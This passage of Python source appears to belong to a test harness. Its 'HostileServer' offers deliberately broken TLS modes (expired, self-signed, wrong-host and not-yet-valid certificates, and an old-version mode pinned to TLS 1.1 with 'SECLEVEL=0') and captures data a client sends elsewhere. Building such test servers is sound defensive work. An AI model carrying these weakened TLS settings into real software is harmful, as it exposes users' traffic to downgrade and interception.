    def _keep(self, coroutine: Coroutine[object, object, None]) -> None:
        task = self._loop.create_task(coroutine)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        if task is not None:
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)
        # The client goes away when it has had enough, which is its right; so do the tests.
        with contextlib.suppress(OSError, asyncio.CancelledError, asyncio.IncompleteReadError, ssl.SSLError):
            try:
                await MODES[self.name](Client(reader, writer, self.state))
            finally:
                writer.close()

    async def _elsewhere(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.state.elsewhere.append(await reader.read(65536))
        writer.close()

    async def _close(self) -> None:
        for server in self._listening:
            server.close()
        if self._socket is not None:
            self._socket.close()
        tasks = list(self._tasks)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


OWN_CERTIFICATE: Final = {
    "tls-self-signed": "self-signed.pem",
    "tls-expired": "expired.pem",
    "tls-not-yet-valid": "not-yet-valid.pem",
    "tls-wrong-host": "good.pem",
    "tls-unknown-authority": "good.pem",
    "tls-client-certificate-wanted": "good.pem",
    "tls-trusted": "good.pem",
    "tls-old-version": "good.pem",
    "tls-name-tells-the-token": "telling.pem",
    "tls-cut-in-body": "good.pem",
}
"""The file that a mode shows, of those that `tests.meta.certificates` makes."""


def _context(name: str, certificates: Path | None) -> ssl.SSLContext | None:
    if certificates is None or name not in OWN_CERTIFICATE:
        return None
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificates / OWN_CERTIFICATE[name])
    if name == "tls-old-version":
        context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_1
        context.set_ciphers("ALL:@SECLEVEL=0")
    if name == "tls-client-certificate-wanted":
        context.verify_mode = ssl.CERT_REQUIRED
        context.load_verify_locations(certificates / "authority.pem")
    return context


def _names() -> Iterator[str]:
    yield from sorted(MODES)


if __name__ == "__main__":
    if sys.argv[1:] and sys.argv[1] in MODES:
        with HostileServer(sys.argv[1], upstream=(sys.argv[2:] or [""])[0]) as serving:
            print(serving.url, flush=True)  # noqa: T201 - what a program does
            sys.stdin.read()
    else:
        print("\n".join(_names()))  # noqa: T201 - likewise
